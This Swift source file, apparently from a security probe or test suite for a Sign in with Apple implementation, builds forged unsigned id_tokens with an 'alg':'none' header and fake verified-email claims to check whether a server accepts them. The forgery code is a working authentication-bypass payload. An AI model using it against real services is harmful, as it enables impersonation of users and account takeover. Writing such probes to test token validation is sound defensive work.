import AppleIDProtocol
import Foundation

/// The id_tokens an attacker writes: no key of the server's, so unsigned.
enum ForgedIdentityToken {
    /// The user a forged token names, to be looked for in the probe's answer.
    static let subject = "000000.f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0.0000"
    static let email = "forged@attacker.example"

    static func unsigned(issuer: String, audience: String, nonce: String?, email: String) -> String {
        let now = Int(Date().timeIntervalSince1970)
        var claims: [String: Any] = [
            "iss": issuer, "aud": audience, "sub": subject, "iat": now, "exp": now + 600,
            "email": email, "email_verified": true,
        ]
        if let nonce { claims["nonce"] = nonce }
        let header = #"{"alg":"none"}"#
        let payload = (try? JSONSerialization.data(withJSONObject: claims, options: [.sortedKeys])) ?? Data()
        return Base64URL.encode(Array(header.utf8)) + "." + Base64URL.encode(Array(payload)) + "."
    }
}
